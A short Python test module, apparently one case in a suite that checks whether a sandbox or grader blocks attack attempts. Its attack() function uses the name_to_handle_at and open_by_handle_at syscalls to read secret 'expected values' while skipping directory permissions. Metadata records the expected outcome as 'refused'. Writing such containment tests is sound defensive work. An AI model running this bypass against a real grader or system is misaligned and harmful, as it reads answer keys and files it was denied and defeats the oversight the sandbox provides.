"""Open the expected values by their inode, past the folders above them."""

from .tools import syscall

KIND = "act"
OUTCOME = "refused"
OPEN = "works"
NEEDS = {"open": "root"}


def attack(target):
    import ctypes
    import os

    handle = ctypes.create_string_buffer((128).to_bytes(4, "little"), 200)
    mount = ctypes.c_int()
    syscall("name_to_handle_at", -100, target["secret"].encode(), handle, ctypes.byref(mount), 0)
    place = os.open(target["package"], os.O_RDONLY)
    fd = syscall("open_by_handle_at", place, handle, os.O_RDONLY)
    return os.read(fd, 100).decode()
